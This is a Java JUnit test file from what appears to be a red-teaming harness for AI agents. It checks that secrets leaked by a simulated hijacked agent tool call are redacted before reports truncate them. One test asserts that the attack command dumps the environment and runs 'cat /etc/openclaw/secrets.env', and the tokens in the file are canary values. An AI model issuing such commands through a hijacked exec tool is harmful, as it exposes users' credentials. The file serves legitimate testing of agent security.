package dev.gjallarhorn.attack.agent;

import dev.gjallarhorn.attack.injection.HijackedExec;
import dev.gjallarhorn.attack.syncgate.GatePreview;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gjallarhorn.evidence.Redactor;
import org.junit.jupiter.api.Test;

/**
 * Target text is shortened only after it was redacted: a secret the cut would halve was already replaced, so no
 * recognisable prefix of it reaches a report.
 */
class RedactThenCutTest {

    static final String SECRET = "gjhcanary-gw-token-Hq72LmPz09xRtYw4";

    @Test
    void aRepliedLineCutAt240KeepsNoPrefixOfASecretStraddlingTheCut() {
        Redactor redactor = new Redactor();
        redactor.learn("OPENCLAW_GATEWAY_TOKEN", SECRET);
        String reply = "a".repeat(225) + " token " + SECRET + " rest of the reply";
        String line = AgentChannel.oneLine(reply);
        assertThat(line).doesNotContain(SECRET.substring(0, 6)).endsWith("…");
        assertThat(AgentChannel.oneLine("the token is " + SECRET)).isEqualTo("the token is [REDACTED:OPENCLAW_GATEWAY_TOKEN]");
    }

    @Test
    void whatTheSyncGateSaidCutAt400KeepsNoPrefixOfASecretStraddlingTheCut() {
        Redactor redactor = new Redactor();
        redactor.learn("OPENCLAW_GATEWAY_TOKEN", SECRET);
        GatePreview preview = new GatePreview("a", 1, false, "BLOCKED: " + "b".repeat(380) + " " + SECRET + " found\n");
        assertThat(preview.said()).doesNotContain(SECRET.substring(0, 6)).endsWith("…");
    }

    @Test
    void aHijackedExecsEnvironmentDumpIsLearnedBeforeItIsCut() {
        Redactor redactor = new Redactor();
        redactor.learn("TELEGRAM_BOT_TOKEN", "123456789:AAHcanaryBotTokenOfSecretsEnv0123456");
        String sandboxToken = "sbx-Lq29WmXc81PzRt40";
        String toolResult = "GJHX-BEGIN\nuid=1000 user=node\nhost=4f1c2b3a9d8e\nenvnames=HOME PATH OPENCLAW_SANDBOX_TOKEN\n"
                + "secretsfile=unreadable\nvault=unreadable\ncanary=blocked\nGJHX-END\nGJHX-ENV\nHOME=/home/node\n"
                + "OPENCLAW_SANDBOX_TOKEN=" + sandboxToken + "\nPIN_PASS=4417\nPATH=/usr/bin:/bin\nGJHX-SECRETS-FILE\n";
        assertThat(HijackedExec.facts(toolResult, redactor)).containsEntry("host", "4f1c2b3a9d8e").containsEntry("user", "node");
        assertThat(redactor.scrub(toolResult)).doesNotContain(sandboxToken).doesNotContain("4417")
                .contains("[REDACTED:OPENCLAW_SANDBOX_TOKEN]").contains("[REDACTED:PIN_PASS]").contains("HOME=/home/node");
        String flat = "x".repeat(200) + toolResult.substring(toolResult.indexOf("OPENCLAW_SANDBOX_TOKEN="));
        assertThat(AgentChannel.oneLine(flat)).doesNotContain(sandboxToken.substring(0, 6));
        assertThat(redactor.forms()).as("what the attacks search the target for stays secrets.env's")
                .extracting(Redactor.Form::secretName).containsOnly("TELEGRAM_BOT_TOKEN");
    }

    @Test
    void theSecretsFileAHijackedExecReadIsLearnedWhateverItsNames() {
        Redactor redactor = new Redactor();
        String toolResult = "GJHX-BEGIN\nhost=vm\nGJHX-END\nGJHX-ENV\nLANG=C.UTF-8\nGJHX-SECRETS-FILE\n# Source: x\n"
                + "TELEGRAM_BOT_TOKEN=\"123456789:AAHcanaryBotTokenOfSecretsEnv0123456\"\nexport RELAY=relay-canary-9Q\nPIN=12\n";
        assertThat(HijackedExec.learn(toolResult, redactor)).isEqualTo(2);
        assertThat(redactor.scrub("relay-canary-9Q and 123456789:AAHcanaryBotTokenOfSecretsEnv0123456 pin 12"))
                .isEqualTo("[REDACTED:RELAY] and [REDACTED:TELEGRAM_BOT_TOKEN] pin 12");
    }

    @Test
    void theHijackedExecDumpsItsWholeEnvironmentAndTheSecretsFileBehindMarkers() {
        String command = HijackedExec.command("192.0.2.1", 443, "gjh-abcd-agent-exec");
        assertThat(command).contains("echo GJHX-END; echo GJHX-ENV; env; echo GJHX-SECRETS-FILE; cat /etc/openclaw/secrets.env")
                .doesNotContain("grep -E '^[A-Z_]*(TOKEN|KEY|SECRET|PASSWORD)");
    }

    @Test
    void aToolResultWithoutTheDumpTeachesNothing() {
        Redactor redactor = new Redactor();
        assertThat(HijackedExec.learn("exec denied: GH_TOKEN=ghp_notADumpAtAll0123456789abcdef", redactor)).isZero();
        assertThat(redactor.knowsAnything()).isFalse();
    }
}
